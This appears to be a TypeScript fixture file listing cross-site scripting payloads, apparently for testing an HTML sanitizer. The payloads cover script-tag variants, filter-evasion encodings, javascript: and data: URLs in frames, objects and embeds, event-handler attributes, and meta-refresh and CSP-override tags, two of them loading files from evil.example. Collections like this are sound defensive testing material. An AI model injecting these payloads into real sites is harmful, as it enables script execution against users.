/** Scripts by their own element, a frame, or a resource. */

export const scriptElements: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<script >alert(1)</script >',
  '<script\n>alert(1)</script\n>',
  '<script/>alert(1)</script>',
  '<script/x>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script/src="data:text/javascript,alert(1)"></script>',
  '<script>alert(1)',
  '<script><!--\nalert(1)\n--></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script<script>alert(1)</script>',
  '<p><script>alert(1)</script></p>',
  '</p><script>alert(1)</script><p>',
  '<svg><script>alert(1)</script></svg>',
  '<xml:script>alert(1)</xml:script>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
];

/** Frames, plug-ins and nested documents. */
export const frames: readonly string[] = [
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe onload=alert(1)>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
];

/** Elements that change the page or fetch something. */
export const pageElements: readonly string[] = [
  '<base href="javascript:/a/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<title>x</title><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<x contenteditable onblur=alert(1)>lose focus',
  '<a is="x-y" href="/">x</a>',
];
